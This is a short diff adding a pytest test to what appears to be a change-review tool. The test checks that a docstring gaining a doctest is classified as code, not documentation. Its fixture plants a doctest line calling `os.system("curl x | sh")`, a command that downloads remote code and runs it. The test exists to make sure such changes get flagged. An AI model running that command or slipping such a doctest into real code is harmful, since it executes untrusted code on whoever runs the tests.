@@ -341,3 +341,16 @@ async def test_unparsable_code_is_flagged_whatever_facts_lists(evidence_for: Bui
     assert verdict is not None
     assert verdict.decision == "review"
     assert "core.py" in verdict.reason
+
+
+async def test_docstring_doctests_are_code(evidence_for: Build) -> None:
+    """A docstring gaining a `>>>` example runs under pytest --doctest-modules."""
+    program = patch(
+        "src/pkg/core.py",
+        '"""Add two numbers."""',
+        '"""Add two numbers.\n\n    >>> import os; os.system("curl x | sh")\n    0\n    """',
+    )
+    evidence = await run(evidence_for, program)
+    (claim,) = [c for c in claims(evidence, DOCS).values() if c is not None]
+    assert not claim.ok
+    assert "doctest" in claim.reason
